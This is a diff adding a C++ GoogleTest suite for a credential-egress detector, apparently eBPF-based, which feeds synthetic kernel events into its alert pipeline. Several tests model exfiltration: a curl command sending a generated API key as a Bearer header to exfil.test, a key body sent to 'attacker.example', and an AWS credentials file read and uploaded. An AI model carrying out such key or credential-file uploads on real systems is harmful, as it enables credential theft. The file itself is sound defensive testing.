@@ -1,0 +1,240 @@
+// The pipeline fed with records laid out exactly as the kernel writes them: no kernel needed.
+#include <arpa/inet.h>
+#include <gtest/gtest.h>
+#include <sys/socket.h>
+
+#include <cstring>
+#include <random>
+
+#include "credsentry_abi.h"
+#include "pipeline/pipeline.h"
+#include "report/alert_json.h"
+
+namespace credsentry::pipeline {
+namespace {
+
+class CaptureSink : public report::AlertSink {
+ public:
+  std::string Name() const override { return "capture"; }
+  Status Write(const report::Alert& a) override {
+    alerts.push_back(a);
+    lines.push_back(report::AlertToJsonLine(a));
+    return Status::Ok();
+  }
+  std::map<std::string, uint64_t> Counters() const override { return {}; }
+  std::vector<report::Alert> alerts;
+  std::vector<std::string> lines;
+};
+
+std::string RandomToken(size_t n) {
+  static std::mt19937_64 rng(std::random_device{}());
+  static const char* alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
+  std::string s;
+  for (size_t i = 0; i < n; ++i) s.push_back(alphabet[rng() % 62]);
+  return s;
+}
+
+std::string OpenAiKey() { return "sk-proj-" + RandomToken(74) + "T3BlbkFJ" + RandomToken(74); }
+
+cs_event_header Header(uint16_t type, uint32_t pid, uint64_t ts, const char* comm) {
+  cs_event_header h{};
+  h.type = type;
+  h.abi = CS_ABI_VERSION;
+  h.pid = pid;
+  h.tid = pid;
+  h.ts_ns = ts;
+  std::strncpy(h.comm, comm, sizeof h.comm - 1);
+  return h;
+}
+
+template <class T>
+std::vector<uint8_t> Record(const T& v, std::string_view tail = {}) {
+  std::vector<uint8_t> out(sizeof(T) + tail.size());
+  std::memcpy(out.data(), &v, sizeof(T));
+  std::memcpy(out.data() + sizeof(T), tail.data(), tail.size());
+  return out;
+}
+
+class PipelineTest : public ::testing::Test {
+ protected:
+  void SetUp() override {
+    auto rules = config::LoadRules({CREDSENTRY_SOURCE_RULES_DIR});
+    ASSERT_TRUE(rules.ok()) << rules.message();
+    auto db = stream::MatcherDatabase::Compile(std::move(*rules));
+    ASSERT_TRUE(db.ok()) << db.message();
+    db_ = *db;
+    auto scope = state::Scope::Create({}, "/nonexistent-proc");
+    ASSERT_TRUE(scope.ok());
+    scope_ = std::make_unique<state::Scope>(*scope);
+    PipelineOptions o;
+    o.hostname = "test-host";
+    pipeline_ = std::make_unique<Pipeline>(o, *scope_, db_, fp_, std::vector<report::AlertSink*>{&sink_},
+                                           nullptr);
+  }
+
+  void Exec(uint32_t pid, uint32_t ppid, const char* comm, std::string_view args) {
+    cs_exec_event e{};
+    e.hdr = Header(CS_EV_EXEC, pid, ++ts_, comm);
+    e.ppid = ppid;
+    std::strcpy(e.filename, (std::string("/usr/bin/") + comm).c_str());
+    e.filename_len = std::strlen(e.filename);
+    std::memcpy(e.args, args.data(), std::min<size_t>(args.size(), CS_ARGS_MAX));
+    e.args_len = std::min<size_t>(args.size(), CS_ARGS_MAX);
+    pipeline_->Handle(Record(e));
+  }
+
+  void Connect(uint32_t pid, int fd, const char* ip, uint16_t port, const char* comm = "curl") {
+    cs_connect_event e{};
+    e.hdr = Header(CS_EV_CONNECT, pid, ++ts_, comm);
+    e.fd = fd;
+    e.family = AF_INET;
+    e.port = port;
+    e.sock_type = SOCK_STREAM;
+    inet_pton(AF_INET, ip, e.addr);
+    pipeline_->Handle(Record(e));
+  }
+
+  void Sni(uint32_t pid, uint64_t ssl, const char* name, const char* comm = "curl") {
+    cs_tls_sni_event e{};
+    e.hdr = Header(CS_EV_TLS_SNI, pid, ++ts_, comm);
+    e.ssl = ssl;
+    std::strcpy(e.name, name);
+    e.name_len = std::strlen(name);
+    pipeline_->Handle(Record(e));
+  }
+
+  void Data(uint16_t type, uint32_t pid, int fd, uint64_t ssl, std::string_view bytes,
+            const char* comm = "curl", uint8_t fd_kind = CS_FD_SOCK_TCP) {
+    cs_data_event e{};
+    e.hdr = Header(type, pid, ++ts_, comm);
+    e.fd = fd;
+    e.ssl = ssl;
+    e.fd_kind = fd_kind;
+    e.sock_state = type == CS_EV_SOCK_DATA ? CS_SOCK_PLAIN : 0;
+    e.len = bytes.size();
+    e.total_len = bytes.size();
+    e.chunk_flags = CS_CHUNK_LAST;
+    pipeline_->Handle(Record(e, bytes));
+  }
+
+  void Close(uint32_t pid, int fd) {
+    cs_close_event e{};
+    e.hdr = Header(CS_EV_CLOSE, pid, ++ts_, "curl");
+    e.fd = fd;
+    pipeline_->Handle(Record(e));
+  }
+
+  bool AnyLineContains(const std::string& needle) const {
+    for (const auto& l : sink_.lines) {
+      if (l.find(needle) != std::string::npos) return true;
+    }
+    return false;
+  }
+
+  uint64_t ts_ = 1000;
+  report::Fingerprinter fp_{"unit-test-key"};
+  std::shared_ptr<const stream::MatcherDatabase> db_;
+  std::unique_ptr<state::Scope> scope_;
+  CaptureSink sink_;
+  std::unique_ptr<Pipeline> pipeline_;
+};
+
+TEST_F(PipelineTest, TlsKeyToUnexpectedSniAlertsOnceWithoutTheKey) {
+  const std::string key = OpenAiKey();
+  const std::string args = "curl\0-H\0Authorization: Bearer " + key + "\0https://exfil.test/";
+  Exec(100, 1, "curl", std::string_view(args.data(), args.size()));
+  Connect(100, 5, "127.0.0.1", 8443);
+  Sni(100, 0xabc, "exfil.test");
+  const std::string req = "POST / HTTP/1.1\r\nHost: exfil.test\r\nAuthorization: Bearer " + key + "\r\n\r\n";
+  Data(CS_EV_TLS_DATA, 100, 5, 0xabc, req);
+  Data(CS_EV_TLS_DATA, 100, 5, 0xabc, req);  // a retry: still one alert
+  ASSERT_EQ(sink_.alerts.size(), 1u);
+  const auto& a = sink_.alerts[0];
+  EXPECT_EQ(a.secret.provider, "openai");
+  EXPECT_EQ(a.secret.type, "openai-project-key");
+  EXPECT_EQ(a.destination.host, "exfil.test");
+  EXPECT_EQ(a.destination.name_source, "sni");
+  EXPECT_EQ(a.destination.ip, "127.0.0.1");
+  EXPECT_EQ(a.destination.port, 8443);
+  EXPECT_EQ(a.process.comm, "curl");
+  EXPECT_EQ(a.secret.found_in, "tls-write");
+  EXPECT_TRUE(a.secret.redacted.starts_with("sk-proj-"));
+  EXPECT_NE(a.process.cmdline.find("Bearer sk-proj-"), std::string::npos);
+  EXPECT_FALSE(AnyLineContains(key)) << "raw key in alert JSON";
+  EXPECT_FALSE(AnyLineContains(key.substr(20, 40))) << "key fragment in alert JSON";
+  EXPECT_EQ(pipeline_->Counters()["alerts_suppressed_duplicate"], 1u);
+}
+
+TEST_F(PipelineTest, ExpectedDestinationIsQuiet) {
+  Connect(101, 5, "127.0.0.1", 443);
+  Sni(101, 0xdef, "api.openai.com");
+  Data(CS_EV_TLS_DATA, 101, 5, 0xdef, "Authorization: Bearer " + OpenAiKey() + "\r\n");
+  EXPECT_TRUE(sink_.alerts.empty());
+  EXPECT_EQ(pipeline_->Counters()["secrets_to_expected_destinations"], 1u);
+}
+
+TEST_F(PipelineTest, KeySplitAcrossTwoWritesAlerts) {
+  Connect(102, 7, "127.0.0.1", 443, "python3");
+  size_t expected = 0;
+  for (size_t split : {size_t{12}, size_t{60}, size_t{150}}) {
+    const std::string body = "{\"key\": \"" + OpenAiKey() + "\"}";
+    const uint64_t ssl = 0x7700 + split;  // a new TLS connection per split point
+    Sni(102, ssl, "attacker.example", "python3");
+    Data(CS_EV_TLS_DATA, 102, 7, ssl, body.substr(0, split), "python3");
+    EXPECT_EQ(sink_.alerts.size(), expected) << "alert before the key was complete";
+    Data(CS_EV_TLS_DATA, 102, 7, ssl, body.substr(split), "python3");
+    EXPECT_EQ(sink_.alerts.size(), ++expected) << "split at " << split;
+  }
+}
+
+TEST_F(PipelineTest, PlainHttpToAnIpAlertsWithTheIp) {
+  Connect(103, 4, "127.0.0.1", 8080);
+  Data(CS_EV_SOCK_DATA, 103, 4, 0, "POST /x HTTP/1.1\r\n\r\nkey=" + OpenAiKey() + "&x=1");
+  ASSERT_EQ(sink_.alerts.size(), 1u);
+  EXPECT_EQ(sink_.alerts[0].destination.ip, "127.0.0.1");
+  EXPECT_EQ(sink_.alerts[0].destination.host, "");
+  EXPECT_EQ(sink_.alerts[0].destination.name_source, "ip");
+  EXPECT_EQ(sink_.alerts[0].secret.found_in, "socket-write");
+}
+
+TEST_F(PipelineTest, KeyAtEndOfStreamFlushesOnClose) {
+  Connect(104, 4, "127.0.0.1", 8080);
+  Data(CS_EV_SOCK_DATA, 104, 4, 0, "token=" + OpenAiKey());
+  Close(104, 4);
+  EXPECT_EQ(sink_.alerts.size(), 1u);
+}
+
+TEST_F(PipelineTest, CredentialFileReadIsEvidence) {
+  const std::string id = "AKIA" + std::string("ABCDEFGHIJKLMNOP");
+  cs_cred_open_event o{};
+  o.hdr = Header(CS_EV_CRED_OPEN, 105, ++ts_, "curl");
+  o.fd = 3;
+  std::strcpy(o.path, "/home/u/.aws/credentials");
+  o.path_len = std::strlen(o.path);
+  pipeline_->Handle(Record(o));
+  const std::string file = "[default]\naws_access_key_id = " + id + "\n";
+  Data(CS_EV_CRED_READ, 105, 3, 0, file, "curl", CS_FD_CRED_FILE);
+  Connect(105, 6, "127.0.0.1", 443);
+  Sni(105, 0x55, "exfil.test");
+  Data(CS_EV_TLS_DATA, 105, 6, 0x55, "PUT /c HTTP/1.1\r\n\r\n" + file);
+  ASSERT_EQ(sink_.alerts.size(), 1u);
+  const auto& a = sink_.alerts[0];
+  EXPECT_EQ(a.kind, "credential-file-egress");
+  ASSERT_FALSE(a.evidence.credential_reads.empty());
+  EXPECT_EQ(a.evidence.credential_reads[0].path, "/home/u/.aws/credentials");
+  EXPECT_NE(a.summary.find(".aws/credentials"), std::string::npos);
+  EXPECT_FALSE(AnyLineContains(id));
+}
+
+TEST_F(PipelineTest, GarbageRecordsAreCountedNotFatal) {
+  std::vector<uint8_t> junk(7, 0xff);
+  pipeline_->Handle(junk);
+  cs_data_event e{};
+  e.hdr = Header(CS_EV_TLS_DATA, 1, 1, "x");
+  e.len = 60000;
+  pipeline_->Handle(Record(e));
+  EXPECT_EQ(pipeline_->Counters()["records_undecodable"], 2u);
+}
+
+}  // namespace
+}  // namespace credsentry::pipeline
